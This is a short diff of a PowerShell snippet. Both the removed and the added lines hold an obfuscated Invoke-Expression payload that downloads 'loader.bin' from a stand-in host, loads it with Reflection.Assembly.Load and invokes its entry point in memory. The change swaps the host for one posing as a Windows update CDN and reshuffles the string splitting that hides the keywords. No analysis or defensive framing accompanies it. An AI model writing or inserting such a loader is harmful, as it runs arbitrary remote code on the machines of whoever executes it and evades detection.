@@ -1,5 +1,5 @@
-iex ('#'+' bootstrap'+' 4289 v3
-$b = (New-Object Net.WebClient).DownloadData(''http://files.sync-svc.example/lo'+'ader.bin'')
-$a = [System.Reflec'+'tion.Assembly]::Load($b)
-$a.EntryPoint.Inv'+'oke($null, (, [string[]] @()))
+iex ('# bootstrap 21'+'72 v3
+$b = (New-Object Net.WebClient).DownloadData(''http://dl.winupdate-cdn.example/loader.bin'')
+$a = [System.Reflection.Assembly]::Lo'+'ad($b)
+$a.EntryPoint.Invoke($null, (, [string[]] @()))
 ')
